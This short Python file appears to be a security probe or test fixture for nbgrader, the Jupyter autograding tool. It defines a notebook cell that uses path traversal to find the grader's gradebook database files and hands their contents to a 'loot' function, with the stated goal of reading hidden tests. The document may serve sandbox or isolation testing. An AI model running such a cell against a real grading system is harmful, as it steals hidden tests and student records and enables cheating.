"""Reads the tests out of nbgrader's database; success: prints the hidden marker."""

CELLS = {
    "demo": """
import glob
for name in glob.glob("../../../gradebook.db*") + glob.glob("@COURSE@/*.db"):
    loot(open(name, "rb").read().decode("latin-1"))
"""
}
